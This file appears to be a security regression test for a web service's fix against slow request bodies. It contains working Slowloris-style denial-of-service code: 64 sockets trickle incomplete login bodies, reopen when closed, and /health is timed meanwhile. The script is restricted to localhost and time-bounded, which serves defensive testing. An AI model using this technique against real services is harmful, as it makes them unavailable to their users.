"""Attack (c), issue 24 item 3: slow request bodies stall the service.

64 sockets each send a login's headers (Content-Length: 1024) and then trickle the
body at one byte every 2 s; a socket the service closes (408 or otherwise) is opened
again at once, so 64 stay connected for the whole run. Meanwhile /health is called
once a second, HEALTH_CALLS times. Passed: every call answers 200 within 1 s. Before
the fix, 16 such sockets left /health answering 0 of 7.

Also reported: the answers the slow sockets got (status counts) and the longest time a
slow socket was kept before its answer (the service's body-read deadline).

Bounded: about HEALTH_CALLS + a few seconds; every socket is closed at the end.
Sends to 127.0.0.1 only.

    python attack_c_slow_bodies.py --base-url http://127.0.0.1:PORT
"""

from __future__ import annotations

import http.client
import selectors
import socket
import threading
import time
from collections import Counter
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit

import helpers

SLOW_SOCKETS = 64
TRICKLE_INTERVAL_SECONDS = 2.0
BODY_LENGTH = 1024
HEALTH_CALLS = 15
HEALTH_INTERVAL_SECONDS = 1.0
#: /health must answer within this.
HEALTH_TIMEOUT_SECONDS = 1.0
#: Time for the 64 sockets to connect and send their headers before /health is called.
SETTLE_SECONDS = 2.0
HEAD = (
    "POST /auth/token HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
    f"Content-Length: {BODY_LENGTH}\r\n\r\n"
).encode()


@dataclass
class SlowClient:
    """One trickling socket: when it was opened, and how much of its body it sent."""

    sock: socket.socket
    opened: float = field(default_factory=time.monotonic)
    sent: int = 0
    answer: bytes = b""


def _address(base_url: str) -> tuple[str, int]:
    parts = urlsplit(base_url)
    if parts.hostname != "127.0.0.1" or parts.port is None:
        raise SystemExit(f"attacks target http://127.0.0.1:PORT only, not {base_url!r}")
    return parts.hostname, parts.port


class Trickler:
    """Keeps SLOW_SOCKETS sockets trickling bodies (one thread), reopening closed ones."""

    def __init__(self, address: tuple[str, int]) -> None:
        self.address = address
        self.answers: Counter[str] = Counter()
        self.longest_kept = 0.0
        self.reopened = 0
        self.failed_connects = 0
        self._selector = selectors.DefaultSelector()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _open(self) -> None:
        try:
            sock = socket.create_connection(self.address, timeout=HEALTH_TIMEOUT_SECONDS)
            sock.sendall(HEAD)
        except OSError:
            self.failed_connects += 1
            return
        sock.setblocking(False)
        self._selector.register(sock, selectors.EVENT_READ, SlowClient(sock))

    def _close(self, client: SlowClient) -> None:
        self._selector.unregister(client.sock)
        client.sock.close()
        status = client.answer.split(b" ", 2)[1].decode() if client.answer.count(b" ") >= 2 else "closed"
        self.answers[status] += 1
        self.longest_kept = max(self.longest_kept, time.monotonic() - client.opened)

    def _run(self) -> None:
        next_byte = time.monotonic() + TRICKLE_INTERVAL_SECONDS
        while not self._stop.is_set():
            while len(self._selector.get_map()) < SLOW_SOCKETS and not self._stop.is_set():
                self._open()
            for key, _ in self._selector.select(timeout=0.1):
                client: SlowClient = key.data
                try:
                    data = client.sock.recv(4096)
                except OSError:
                    data = b""
                client.answer += data
                if not data or b"\r\n\r\n" in client.answer:
                    self._close(client)
                    self.reopened += 1
            if time.monotonic() >= next_byte:
                next_byte += TRICKLE_INTERVAL_SECONDS
                for key in list(self._selector.get_map().values()):
                    client = key.data
                    if client.sent < BODY_LENGTH - 1:  # never the last byte: always incomplete
                        try:
                            client.sock.send(b" ")
                            client.sent += 1
                        except OSError:
                            pass

    def __enter__(self) -> Trickler:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(10)
        for key in list(self._selector.get_map().values()):
            key.data.sock.close()
        self._selector.close()


def _health(address: tuple[str, int]) -> float | None:
    """Seconds /health took to answer 200, or None if it did not within the timeout."""
    started = time.monotonic()
    conn = http.client.HTTPConnection(*address, timeout=HEALTH_TIMEOUT_SECONDS)
    try:
        conn.request("GET", "/health")
        response = conn.getresponse()
        response.read()
        elapsed = time.monotonic() - started
        return elapsed if response.status == 200 and elapsed <= HEALTH_TIMEOUT_SECONDS else None
    except (OSError, http.client.HTTPException):
        return None
    finally:
        conn.close()


def main(base_url: str) -> dict[str, Any]:
    """Run the attack once; /health's answers and latencies, the slow sockets' answers, `passed`."""
    address = _address(base_url)
    latencies: list[float | None] = []
    with Trickler(address) as trickler:
        time.sleep(SETTLE_SECONDS)  # the attack's own pacing: let the sockets connect
        for _ in range(HEALTH_CALLS):
            started = time.monotonic()
            latencies.append(_health(address))
            time.sleep(max(0.0, HEALTH_INTERVAL_SECONDS - (time.monotonic() - started)))  # pacing
    answered = [latency for latency in latencies if latency is not None]
    return {
        "attack": "c: slow request bodies",
        "slow_sockets": SLOW_SOCKETS,
        "health_calls": HEALTH_CALLS,
        "health_answered_within_1s": len(answered),
        "health_slowest_ms": round(max(answered) * 1000, 1) if answered else None,
        "slow_socket_answers": dict(sorted(trickler.answers.items())),
        "slow_socket_longest_kept_s": round(trickler.longest_kept, 1),
        "slow_sockets_reopened": trickler.reopened,
        "failed_connects": trickler.failed_connects,
        "passed": len(answered) == HEALTH_CALLS,
    }


if __name__ == "__main__":
    raise SystemExit(helpers.cli(main))
